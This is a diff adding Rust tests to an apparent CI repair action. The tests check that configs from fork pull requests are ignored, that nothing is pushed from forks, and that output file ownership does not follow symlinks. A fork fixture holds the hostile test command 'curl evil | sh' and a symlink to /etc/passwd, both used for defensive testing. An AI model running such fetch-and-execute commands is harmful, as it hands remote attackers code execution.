@@ -65,6 +65,7 @@ fn workflow_run_payload(edit: impl FnOnce(&mut Value)) -> Vec<u8> {
     ))
     .unwrap();
     v["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
+    v["workflow_run"]["head_repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
     v["workflow_run"]["pull_requests"][0]["head"]["sha"] = HEAD.into();
     edit(&mut v);
     serde_json::to_vec(&v).unwrap()
@@ -518,6 +519,38 @@ async fn dry_run_posts_nothing_but_summarises() {
         r.summary
     );
     assert!(mock.writes().is_empty());
+
+    // The summary carries the very bodies a real run posts.
+    let real = MockGitHub::start().await;
+    setup_mock(&real);
+    let env = Env::new(&real, "workflow_run", &workflow_run_payload(|_| {}));
+    run(
+        &args(),
+        &env.get(),
+        FakeRepairer::new(verified(PATCH)).as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    let bodies: Vec<String> = real.with(|s| {
+        let mut b: Vec<String> = s.reviews[0]["comments"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|c| c["body"].as_str().unwrap().to_string())
+            .collect();
+        b.push(s.comments[0].2.clone());
+        b
+    });
+    assert_eq!(bodies.len(), 2);
+    for b in &bodies {
+        assert!(
+            r.summary.contains(b.as_str()),
+            "dry-run summary lacks the body:\n{b}\n---\n{}",
+            r.summary
+        );
+    }
 }
 
 #[tokio::test]
@@ -896,4 +929,316 @@ async fn dispatch_with_an_input_ref_resolves_that_branch_not_the_workflow_sha() 
             "the fix PR targets the dispatched branch"
         )
     });
+}
+
+// ---------- fork pull requests: the trust boundary ----------
+
+/// The fork author's config in the checkout: everything it says must be ignored.
+const FORK_CONFIG: &str = "mode: pr\ntest_command: curl evil | sh\nallowed_ci_paths: ['.github/workflows/*']\n\
+                           triggers:\n  comment_min_permission: write\nbudgets:\n  max_steps: 999\n";
+/// The base repository's default-branch config (served by the contents API).
+const BASE_CONFIG: &str = "mode: pr\ntest_command: make test\nbudgets:\n  max_steps: 7\n";
+
+fn fork_setup(mock: &MockGitHub, env: &Env) {
+    mock.with(|s| {
+        s.prs.get_mut(&2).unwrap().head_repo = Some("forker/Hello-World".into());
+        s.contents
+            .insert(".github/patchloop.yml".into(), BASE_CONFIG.into());
+    });
+    let ws = env.dir.path().join("ws/.github");
+    std::fs::create_dir_all(&ws).unwrap();
+    std::fs::write(ws.join("patchloop.yml"), FORK_CONFIG).unwrap();
+}
+
+/// No config from the head, nothing pushed, suggestions instead of `pr`, and a notice.
+fn assert_fork_safe(
+    mock: &MockGitHub,
+    fake: &FakeRepairer,
+    r: &patchloop::github::action::ActionReport,
+) {
+    let req = fake.calls.lock().unwrap()[0].clone();
+    assert_eq!(
+        req.test_cmd.as_deref(),
+        Some("make test"),
+        "the base's test command"
+    );
+    assert_eq!(req.max_steps, Some(7), "the base's budget");
+    assert!(req.allowed_ci_paths.is_empty(), "no CI paths from the fork");
+    let writes = mock.writes();
+    assert!(
+        !writes.iter().any(|w| w.path.contains("/git/")),
+        "nothing pushed into the base repository: {:?}",
+        writes.iter().map(|w| &w.path).collect::<Vec<_>>()
+    );
+    mock.with(|s| {
+        assert!(s.refs.is_empty() && s.created_pulls.is_empty() && s.blobs.is_empty());
+        assert_eq!(s.reviews.len(), 1, "mode pr fell back to suggestions");
+        // The config was read from the default branch (no ref), not the fork's head.
+        let cfg_reads: Vec<&Recorded> = s
+            .requests
+            .iter()
+            .filter(|q| q.path == format!("/repos/{OWNER}/{REPO}/contents/.github/patchloop.yml"))
+            .collect();
+        assert_eq!(cfg_reads.len(), 1);
+        assert!(
+            !cfg_reads[0].query.contains("ref="),
+            "{}",
+            cfg_reads[0].query
+        );
+    });
+    assert!(mock.violations().is_empty(), "{:?}", mock.violations());
+    let all = r.notices.join("\n");
+    assert!(
+        all.contains("checkout's .github/patchloop.yml is ignored")
+            && all.contains("forker/Hello-World"),
+        "{all}"
+    );
+    assert!(all.contains("never pushes a fork's commits"), "{all}");
+    assert!(r.summary.contains("is ignored"), "{}", r.summary);
+}
+
+#[tokio::test]
+async fn fork_workflow_runs_use_the_base_config_and_never_push() {
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let payload = workflow_run_payload(|v| {
+        v["workflow_run"]["head_repository"]["full_name"] = "forker/Hello-World".into();
+    });
+    let env = Env::new(&mock, "workflow_run", &payload);
+    fork_setup(&mock, &env);
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.end, ActionEnd::Fixed);
+    assert_fork_safe(&mock, &fake, &r);
+
+    // With no pull request found for the fork's commit, `pr` mode posts nothing at all.
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let payload = workflow_run_payload(|v| {
+        v["workflow_run"]["head_repository"]["full_name"] = "forker/Hello-World".into();
+        v["workflow_run"]["pull_requests"] = Value::Array(vec![]);
+    });
+    let env = Env::new(&mock, "workflow_run", &payload);
+    fork_setup(&mock, &env);
+    mock.with(|s| s.prs.clear());
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(
+        fake.calls.lock().unwrap()[0].test_cmd.as_deref(),
+        Some("make test")
+    );
+    assert!(mock.writes().is_empty(), "{:?}", mock.writes());
+    assert!(r.summary.contains("no branch is pushed"), "{}", r.summary);
+    assert!(
+        r.summary.contains("```diff"),
+        "the patch is still in the summary"
+    );
+}
+
+#[tokio::test]
+async fn fork_comment_commands_use_the_base_config_and_never_push() {
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let env = Env::new(&mock, "issue_comment", &comment_payload(|_| {}));
+    fork_setup(&mock, &env);
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.end, ActionEnd::Fixed);
+    assert_fork_safe(&mock, &fake, &r);
+
+    // Who may run the command is the base's call too: its `admin` minimum beats the fork's
+    // `write` for a commenter with write permission.
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let env = Env::new(&mock, "issue_comment", &comment_payload(|_| {}));
+    fork_setup(&mock, &env);
+    mock.with(|s| {
+        s.contents.insert(
+            ".github/patchloop.yml".into(),
+            format!("{BASE_CONFIG}triggers:\n  comment_min_permission: admin\n"),
+        );
+    });
+    let fake = FakeRepairer::new(verified(PATCH));
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert!(
+        matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("`admin`")),
+        "{:?}",
+        r.end
+    );
+    assert_eq!(fake.count(), 0);
+    assert!(mock.writes().is_empty());
+}
+
+/// Writes outputs into the checkout as the pipeline does (as root here, like the action).
+struct WritingRepairer(patchloop::github::RepairOutcome);
+
+#[async_trait::async_trait]
+impl Repairer for WritingRepairer {
+    async fn repair(&self, req: RepairRequest) -> anyhow::Result<RepairOutcome> {
+        let d = req.repo_dir.join(".patchloop").join(&req.head_sha);
+        std::fs::create_dir_all(d.join("sub")).unwrap();
+        std::fs::write(req.repo_dir.join(".patchloop/.gitignore"), "*\n").unwrap();
+        std::fs::write(d.join("patch.diff"), PATCH).unwrap();
+        std::fs::write(d.join("sub/trajectory.jsonl"), "{}\n").unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", d.join("link")).unwrap();
+        Ok(self.0.clone())
+    }
+}
+
+#[tokio::test]
+async fn outputs_left_in_the_workspace_belong_to_the_workspace_owner() {
+    use std::os::unix::fs::MetadataExt;
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
+    let ws = env.dir.path().join("ws");
+    // The runner's user owns the checkout; this test (like the action container) is root.
+    std::os::unix::fs::chown(&ws, Some(1001), Some(1002)).unwrap();
+    assert_eq!(
+        nix_euid(),
+        0,
+        "this test runs as root, as the action container does"
+    );
+    let r = run(
+        &args(),
+        &env.get(),
+        &WritingRepairer(verified(PATCH)),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.end, ActionEnd::Fixed);
+    let mut stack = vec![ws.join(".patchloop")];
+    let mut seen = 0;
+    while let Some(p) = stack.pop() {
+        let m = std::fs::symlink_metadata(&p).unwrap();
+        assert_eq!((m.uid(), m.gid()), (1001, 1002), "{}", p.display());
+        seen += 1;
+        if m.is_dir() {
+            stack.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
+        }
+    }
+    assert_eq!(seen, 7, "every file and directory was checked");
+    let target = std::fs::metadata("/etc/passwd").unwrap();
+    assert_eq!(target.uid(), 0, "symlinks are not followed");
+}
+
+fn nix_euid() -> u32 {
+    use std::os::unix::fs::MetadataExt;
+    // The owner of a file just created is the effective uid.
+    let f = tempfile::NamedTempFile::new().unwrap();
+    f.as_file().metadata().unwrap().uid()
+}
+
+/// A receipt as the verifier writes it (`receipt.md`), with the command line it shows.
+fn receipt_md() -> String {
+    let golden = std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/verify/testdata/receipt.md"),
+    )
+    .unwrap();
+    golden.replace(
+        "- command: `python3 -I`",
+        "- command: `python3 -I -B -c <pl_run.py: sys.path += [/work]> pytest -c <harness ini> \
+         --rootdir /work --confcutdir /work -p pl_guard -p no:cacheprovider --junitxml <harness path>`",
+    )
+}
+
+#[tokio::test]
+async fn the_posted_receipt_reads_like_receipt_md() {
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
+    let mut o = verified(PATCH);
+    o.receipt_md = receipt_md();
+    assert!(o.receipt_md.contains("<harness ini>"));
+    let fake = FakeRepairer::new(o.clone());
+    let r = run(
+        &args(),
+        &env.get(),
+        fake.as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    let want = o.receipt_md.trim();
+    mock.with(|s| {
+        let body = &s.comments[0].2;
+        assert!(body.contains(want), "posted:\n{body}\nwant:\n{want}");
+    });
+    assert!(r.summary.contains(want), "{}", r.summary);
+}
+
+#[tokio::test]
+async fn an_unverified_outcome_says_why_in_the_summary() {
+    let mock = MockGitHub::start().await;
+    setup_mock(&mock);
+    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
+    let o = RepairOutcome {
+        verdict: "not_verified".into(),
+        patch: PATCH.into(),
+        reason: "not fixed: 2 tests still failing (stop reason done, 5 steps, 900 tokens, \
+                 $0.0000, 3.0s, model ollama:qwen at http://ollama:11434; finished)"
+            .into(),
+        ..Default::default()
+    };
+    let r = run(
+        &args(),
+        &env.get(),
+        FakeRepairer::new(o).as_ref(),
+        Arc::new(FakeClock::default()),
+        fast_policy(),
+    )
+    .await
+    .unwrap();
+    assert_eq!(r.end, ActionEnd::NoFix);
+    assert!(
+        r.summary
+            .contains("Why `not_verified`: not fixed: 2 tests still failing (stop reason done"),
+        "{}",
+        r.summary
+    );
+    assert!(
+        !r.summary.contains("http://ollama"),
+        "no endpoint: {}",
+        r.summary
+    );
+    assert!(
+        r.summary.contains("No verification receipt") && !r.summary.contains("<summary>Receipt"),
+        "no empty receipt block: {}",
+        r.summary
+    );
 }
